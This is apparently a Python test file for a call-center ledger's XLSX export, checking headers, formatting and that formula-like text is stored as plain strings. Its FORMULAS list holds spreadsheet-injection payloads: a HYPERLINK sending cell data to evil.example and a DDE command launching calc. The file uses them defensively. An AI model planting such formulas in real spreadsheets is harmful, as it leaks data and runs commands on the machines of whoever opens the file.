"""The 台账 workbook, read back as a reader of the form would."""

from __future__ import annotations

import zipfile
from pathlib import Path

from openpyxl import load_workbook

from callcenter.ledger.export import SHEET_TITLE, export_xlsx
from callcenter.ledger.taizhang import COLUMNS, TaizhangRow

ROWS = [
    TaizhangRow(
        "千秋所", "2026-11-03 09:30", "张三", "个体工商户设立登记", "服务环境：非常满意", ""
    ),
    TaizhangRow("千秋所", "2026-11-03 10:30", "某某公司", "食品经营许可", "未接通", "占线"),
]


def test_header_and_rows(tmp_path: Path) -> None:
    path = export_xlsx(ROWS, tmp_path / "台账-2026-11.xlsx")

    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    values = list(sheet.iter_rows(values_only=True))
    assert sheet.title == SHEET_TITLE == "电话回访登记台账"
    assert values[0] == COLUMNS
    assert [tuple(v or "" for v in row) for row in values[1:]] == [r.as_tuple() for r in ROWS]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["E"].width > sheet.column_dimensions["B"].width
    workbook.close()


def test_empty_taizhang_still_has_the_header(tmp_path: Path) -> None:
    path = export_xlsx([], str(tmp_path / "empty.xlsx"))

    workbook = load_workbook(path)
    assert list(workbook.worksheets[0].iter_rows(values_only=True)) == [COLUMNS]
    workbook.close()
    assert [p.name for p in tmp_path.iterdir()] == ["empty.xlsx"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
]


def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
    rows = [TaizhangRow("千秋所", "2026-11-03 09:30", text, text, text, text) for text in FORMULAS]
    path = export_xlsx(rows, tmp_path / "台账.xlsx")

    workbook = load_workbook(path)
    sheet = workbook.worksheets[0]
    for row_no, text in enumerate(FORMULAS, start=2):
        for column in "CDEF":
            cell = sheet[f"{column}{row_no}"]
            assert cell.data_type == "s", (cell.coordinate, cell.data_type)
            assert cell.value == text
    workbook.close()
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
